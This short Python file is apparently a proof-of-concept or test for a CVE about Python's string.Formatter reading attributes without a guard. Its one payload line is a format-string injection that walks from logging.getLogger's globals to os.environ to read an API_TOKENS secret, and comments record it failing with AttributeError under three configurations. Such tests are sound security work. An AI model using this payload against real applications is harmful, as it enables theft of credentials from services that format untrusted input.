# CVE-2026-76825: string.Formatter reads attributes without a guard.
# guarded: error AttributeError: the attribute '__globals__'
# plain: error AttributeError: the attribute '__globals__'
# landlock: error AttributeError: the attribute '__globals__'
import logging
import string

string.Formatter().format("{0.__globals__[os].environ[API_TOKENS]}", logging.getLogger)
